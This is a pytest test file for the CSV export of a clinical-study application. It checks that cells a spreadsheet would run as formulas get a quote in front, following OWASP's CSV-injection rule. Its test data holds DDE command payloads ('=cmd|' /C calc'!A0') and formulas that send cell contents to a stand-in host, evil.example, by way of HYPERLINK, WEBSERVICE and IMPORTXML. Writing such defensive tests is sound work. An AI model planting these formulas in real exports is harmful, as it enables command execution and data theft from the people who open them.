"""CSV downloads and formula injection (smc.outputs.csv_export.safe_csv, which every CSV the app writes goes through).

The rule, from OWASP's "CSV Injection" page: a text cell that a spreadsheet would run as a formula — its first
character one of = + - @ tab CR LF (NUL too, ASVS 1.2.10), or its first visible character one of = + - @ (also
full-width and small forms), or a line inside it starting so — gets a ' in front (of the cell, or of that line);
every text cell is quoted so separators, quotes and line breaks stay inside it. Numbers stay numbers: numeric
columns as written, and a text cell that is only a number ("-1", "-30.5%"). The expected texts below are written
out by hand from that rule.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re

import numpy as np
import pandas as pd
import pytest

from smc.outputs.csv_export import safe_csv
from tests.helpers import ROOT

Q = "'"
DANGEROUS = [  # (cell text, what the CSV must hold)
    # OWASP's two examples of its escaping: the quote in front, the cell quoted, quotes inside it doubled
    ('=1+2";=1+2', Q + '=1+2";=1+2'),
    ("=1+2'\" ;,=1+2", Q + "=1+2'\" ;,=1+2"),
    # each starting character
    ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', Q + '=HYPERLINK("http://evil.example/?d="&A1,"Click")'),
    ("+1+2", Q + "+1+2"), ("-1+2", Q + "-1+2"), ("@SUM(1+9)", Q + "@SUM(1+9)"),
    ("\t=1+2", Q + "\t=1+2"),
    ("\r=1+2", Q + "\r" + Q + "=1+2"), ("\n=1+2", Q + "\n" + Q + "=1+2"),  # the break, then the line after it
    ("\tindented note", Q + "\tindented note"), ("\rnote", Q + "\rnote"), ("\nnote", Q + "\nnote"),
    ("\x00note", Q + "\x00note"),
    # DDE and friends
    ("=cmd|' /C calc'!A0", Q + "=cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", Q + "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", Q + "-2+3+cmd|' /C calc'!A0"),
    ("+cmd|' /C notepad'!'B1'", Q + "+cmd|' /C notepad'!'B1'"),
    ('=WEBSERVICE("http://evil.example/"&A1)', Q + '=WEBSERVICE("http://evil.example/"&A1)'),
    ('=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")', Q + '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")'),
    ("-1-1", Q + "-1-1"), ("-inf", Q + "-inf"), ("+", Q + "+"), ("-", Q + "-"),
    # first visible character, after spaces and invisible characters
    ("   =1+2", Q + "   =1+2"), (" \t @SUM(1)", Q + " \t @SUM(1)"), ("\u00a0=1+2", Q + "\u00a0=1+2"),
    ("\u3000=1+2", Q + "\u3000=1+2"), ("\u200b=1+2", Q + "\u200b=1+2"), ("\ufeff=1+2", Q + "\ufeff=1+2"),
    ("\u2028=1+2", Q + "\u2028=1+2"),
    # full-width and small forms
    ("＝1+2", Q + "＝1+2"), ("＋1+2", Q + "＋1+2"), ("－1+2", Q + "－1+2"), ("＠SUM(1)", Q + "＠SUM(1)"),
    ("﹦1+2", Q + "﹦1+2"), ("﹢1", Q + "﹢1"), ("  ＝HYPERLINK(\"x\")", Q + "  ＝HYPERLINK(\"x\")"),
    # a line inside the cell starting so (for readers that split rows at any line break)
    ("Fatigue\n=1+2", "Fatigue\n" + Q + "=1+2"), ("ok\r\n@SUM(1)", "ok\r\n" + Q + "@SUM(1)"),
    ("a\r-1+1", "a\r" + Q + "-1+1"), ("=1\n=2\nok\n  +A1", Q + "=1\n" + Q + "=2\nok\n" + Q + "  +A1"),
    ("Plan:\n- wait for PK\n- re-review", "Plan:\n" + Q + "- wait for PK\n" + Q + "- re-review"),
]
HARMLESS = [
    "Fatigue", "Cytokine release syndrome", "Grade 3 - related", "e-mail@example.org", "1+2", "IX001-004",
    "", " ", "It's fine", "'=already marked", "(=1)", "A=1", "x\ny", "−1+2",  # U+2212 MINUS SIGN: no formula
    # numbers written as text stay numbers
    "-1", "-30.5", "+2", "-1.5e3", "-30.5%", ".5", "-0.25", "  -1 ", "12", "a\n-1",
]


def read_back(data: bytes, quoting: int = csv.QUOTE_NONNUMERIC) -> list[list]:
    """The CSV read back with Python's csv module. QUOTE_NONNUMERIC turns every unquoted cell into a float, so a
    str proves the cell was quoted and a float that it was written as a bare number."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), quoting=quoting))


@pytest.mark.parametrize("text, expected", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(text, expected):
    header, *rows = read_back(safe_csv(pd.DataFrame({"term": [text]})))
    assert (header, rows) == (["term"], [[expected]])


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_and_numbers_as_text_are_left_alone(text):
    assert read_back(safe_csv(pd.DataFrame({"term": [text]}))) == [["term"], [text]]


def test_numeric_columns_stay_numbers_and_text_columns_of_every_kind_are_neutralised():
    """-1 dose level and -30.5 % change written bare; object, string, category and mixed columns neutralised;
    missing values empty; the caller's frame unchanged."""
    frame = pd.DataFrame({
        "level": [-1, 2, 0], "change_pct": [-30.5, np.nan, 12.25], "n": pd.array([-3, None, 1], dtype="Int64"),
        "dlt": [True, False, True], "term": ["=1+2", "Fatigue", None],
        "site": pd.array(["@SUM(1)", None, "Site 1"], dtype="string"),
        "soc": pd.Categorical(["-2+3", "Blood", "-2+3"]),
        "mixed": [-1, "+cmd|' /C calc'!A0", dt.timedelta(days=-1)], "onset": pd.to_datetime(["2024-01-01", None,
                                                                                            "2024-02-29"]),
    })
    before = frame.copy()
    data = safe_csv(frame)
    assert read_back(data, csv.QUOTE_MINIMAL) == [
        ["level", "change_pct", "n", "dlt", "term", "site", "soc", "mixed", "onset"],
        ["-1", "-30.5", "-3", "True", Q + "=1+2", Q + "@SUM(1)", Q + "-2+3", "-1", "2024-01-01"],
        ["2", "", "", "False", "Fatigue", "", "Blood", Q + "+cmd|' /C calc'!A0", ""],
        ["0", "12.25", "1", "True", "", "Site 1", Q + "-2+3", Q + "-1 day, 0:00:00", "2024-02-29"]]
    # Bare numbers (and booleans), as a spreadsheet sums them; every text cell quoted.
    assert data.decode("utf-8").splitlines()[1:] == [
        '-1,-30.5,-3,True,"\'=1+2","\'@SUM(1)","\'-2+3",-1,"2024-01-01"',
        '2,"","",False,"Fatigue","","Blood","\'+cmd|\' /C calc\'!A0",""',
        '0,12.25,1,True,"","Site 1","\'-2+3","\'-1 day, 0:00:00","2024-02-29"']
    pd.testing.assert_frame_equal(frame, before)


def test_column_names_are_text_cells_too():
    """A pivot's columns are values of the data (AE terms, sites); a console result's are the user's aliases."""
    frame = pd.DataFrame([[1, 2, 3]], columns=["=HYPERLINK(\"x\")", "Fatigue", "@SUM(1)"])
    assert read_back(safe_csv(frame))[0] == [Q + '=HYPERLINK("x")', "Fatigue", Q + "@SUM(1)"]
    wide = pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_tuples([("Grade 3", "=1+2"), ("Grade 3", "Level 1")]))
    assert read_back(safe_csv(wide))[:2] == [["Grade 3", "Grade 3"], [Q + "=1+2", "Level 1"]]


def test_separators_quotes_and_line_breaks_stay_inside_their_cell():
    """The OWASP concern beyond the first character: a separator or quote must not start a new cell."""
    texts = ['a,=1+2', 'a;=1+2', 'a"=1+2', 'a\t=1+2', 'x\r\n=1+2', '","=1+2']
    rows = read_back(safe_csv(pd.DataFrame({"t": texts, "n": range(len(texts))})))
    assert rows[1:] == [['a,=1+2', 0.0], ['a;=1+2', 1.0], ['a"=1+2', 2.0], ['a\t=1+2', 3.0],
                        ["x\r\n" + Q + "=1+2", 4.0], ['","=1+2', 5.0]]


def test_an_empty_frame_and_a_large_one():
    assert safe_csv(pd.DataFrame({"a": [], "b": pd.Series([], dtype=float)})) == b'"a","b"\n'
    n = 60_000  # a study's longest listing
    frame = pd.DataFrame({"term": ["Fatigue", "=1+2"] * (n // 2), "grade": [3, -1] * (n // 2)})
    rows = read_back(safe_csv(frame))
    assert len(rows) == n + 1 and rows[2] == [Q + "=1+2", -1.0] and rows[-1] == [Q + "=1+2", -1.0]


def test_every_csv_the_app_writes_goes_through_safe_csv():
    """No page or module writes a CSV for download but through safe_csv (ui.download_csv calls it). The SDTM
    generator of bench-import writes importer input, not a download, and is left as it is."""
    writers = []
    for path in [*(ROOT / "smc").rglob("*.py"), *(ROOT / "views").glob("*.py"), ROOT / "app.py"]:
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"\.to_csv\(|csv\.writer|DictWriter|mime=\"text/csv\"", line):
                writers.append(f"{path.relative_to(ROOT)}:{number}")
    assert sorted(w.split(":")[0] for w in writers) == [
        "smc/ingest/sdtm/synthetic.py", "smc/outputs/csv_export.py", "smc/ui/__init__.py"], writers
